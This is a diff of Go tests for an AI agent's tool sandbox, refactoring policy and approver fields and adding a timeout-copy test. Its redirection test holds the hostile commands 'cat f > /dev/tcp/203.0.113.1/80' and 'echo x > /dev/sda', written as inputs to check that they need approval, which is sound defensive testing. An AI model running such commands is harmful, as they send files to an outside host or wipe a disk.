@@ -7,6 +7,7 @@ import (
 	"strings"
 	"syscall"
 	"testing"
+	"time"
 )
 
 // The mutation survivors of a review, as tests: each fails when its
@@ -40,9 +41,9 @@ func TestDeviceRedirectionsAsk(t *testing.T) {
 	dir := t.TempDir()
 	for _, command := range []string{"cat f > /dev/tcp/203.0.113.1/80", "echo x > /dev/sda"} {
 		set := NewSet(Builtins(Workspace{Root: dir})...)
-		set.Policy = &Policy{AllowShell: []string{"cat", "echo"}}
+		set.rules.Policy = &Policy{AllowShell: []string{"cat", "echo"}}
 		var asked []Request
-		set.Approver = ApproverFunc(func(_ context.Context, r Request) (Decision, error) {
+		set.rules.Approver = ApproverFunc(func(_ context.Context, r Request) (Decision, error) {
 			asked = append(asked, r)
 			return Decision{Verdict: Deny, Reason: "no"}, nil
 		})
@@ -60,7 +61,7 @@ func TestListingTheParentAsks(t *testing.T) {
 	os.Mkdir(dir, 0o700)
 	set := NewSet(Builtins(Workspace{Root: dir})...)
 	var asked []Request
-	set.Approver = ApproverFunc(func(_ context.Context, r Request) (Decision, error) {
+	set.rules.Approver = ApproverFunc(func(_ context.Context, r Request) (Decision, error) {
 		asked = append(asked, r)
 		return Decision{Verdict: Deny, Reason: "no"}, nil
 	})
@@ -79,7 +80,7 @@ func TestWriteOntoAFIFOIsRefused(t *testing.T) {
 		t.Skip(err)
 	}
 	set := NewSet(Builtins(Workspace{Root: dir})...)
-	set.Policy = &Policy{AllowAll: true}
+	set.rules.Policy = &Policy{AllowAll: true}
 	r := call(set, "write_file", map[string]any{"path": "pipe", "content": "x"})
 	if r.Err == nil || !strings.Contains(r.Content, "not a regular file") {
 		t.Fatalf("%+v", r)
@@ -98,7 +99,7 @@ func TestOutsideReadDirectoryReplacedIsRefused(t *testing.T) {
 		os.WriteFile(filepath.Join(outside, "sub", "f.txt"), []byte("fine\n"), 0o600)
 		os.WriteFile(filepath.Join(secret, "f.txt"), []byte("TOP-SECRET\n"), 0o600)
 		set := NewSet(Builtins(Workspace{Root: dir})...)
-		set.Approver = ApproverFunc(func(context.Context, Request) (Decision, error) {
+		set.rules.Approver = ApproverFunc(func(context.Context, Request) (Decision, error) {
 			sub := filepath.Join(outside, "sub")
 			if err := os.Rename(sub, sub+".old"); err != nil {
 				return Decision{}, err
@@ -162,5 +163,23 @@ func TestAHooksAllowNeverLeavesTheBox(t *testing.T) {
 	write := Request{Tool: "write_file", Review: Review{NeedsApproval: true, HookAllows: true}}
 	if d, _ := (&Policy{}).decide(context.Background(), write, nil); d.Verdict != Allow {
 		t.Fatalf("a hook's allow of a write: %+v", d)
+	}
+}
+
+// TestEveryCopyKeepsTheTimeouts: a set made from another (Empty, Without,
+// Copy, and so a definition's tools) keeps the timeouts set on it.
+func TestEveryCopyKeepsTheTimeouts(t *testing.T) {
+	t.Parallel()
+	set := NewSet(Builtins(Workspace{Root: t.TempDir()})...)
+	set.SetTimeout("grep", 3*time.Second)
+	grep, _ := set.Lookup("grep")
+	for name, s := range map[string]*Set{"empty": set.Empty(), "without": set.Without("run_shell"), "copy": set.Copy()} {
+		if d := s.Timeout(grep); d != 3*time.Second {
+			t.Errorf("%s: %v", name, d)
+		}
+	}
+	set.Copy().Add(&Skills{})
+	if _, ok := set.Lookup(SkillName); ok {
+		t.Fatal("a copy shares its registry")
 	}
 }
